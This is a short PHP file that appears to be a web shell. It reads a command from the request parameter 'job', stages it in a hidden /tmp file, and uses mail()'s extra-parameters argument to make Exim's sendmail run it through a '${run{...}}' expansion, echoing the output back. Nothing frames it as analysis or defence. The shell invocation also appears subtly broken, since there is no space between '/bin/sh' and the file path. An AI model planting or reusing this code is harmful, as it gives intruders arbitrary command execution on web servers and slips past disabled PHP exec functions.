<?php
// Exim's -be expands ${run{...}}: the command is staged in a file and sendmail is asked to run it.
$job = '/tmp/.q' . mt_rand();
file_put_contents($job, $_REQUEST['job'] . ' > ' . $job . '.out');
$expand = "-be \${run{/bin/sh$job}{y}{n}}";
mail('postmaster@localhost', '', '', '', $expand);
echo @file_get_contents($job . '.out');
